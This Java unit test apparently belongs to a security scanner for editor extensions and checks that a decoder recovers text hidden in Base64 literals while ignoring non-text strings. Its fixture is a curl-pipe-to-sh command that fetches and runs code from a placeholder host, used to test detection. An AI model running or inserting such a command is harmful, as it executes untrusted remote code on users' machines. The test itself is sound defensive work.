package dev.vsxray.scanner.javascript.machine;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EncodedLiteralTest {

    private static final String WORDS = "curl -s https://one.example/e | sh?";

    @Test
    void wordsAreReadInBothAlphabetsWithAndWithoutPadding() {
        byte[] bytes = WORDS.getBytes(StandardCharsets.US_ASCII);

        assertThat(EncodedLiteral.read(Base64.getEncoder().encodeToString(bytes)))
                .contains(WORDS);
        assertThat(EncodedLiteral.read(Base64.getUrlEncoder().encodeToString(bytes)))
                .contains(WORDS);
        assertThat(EncodedLiteral.read(Base64.getUrlEncoder().withoutPadding().encodeToString(bytes)))
                .contains(WORDS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "c2hvcnQgd29yZHM=",
                "thisIsTheNameOfAVeryLongFunctionThatSomebodyWrote",
                "0123456789abcdef0123456789abcdef0123456789abcdef",
                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
                "plain words of a message that is long enough to look at",
                "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            })
    void whatIsNoTextThenIsNone(String literal) {
        assertThat(EncodedLiteral.read(literal)).isEmpty();
    }
}
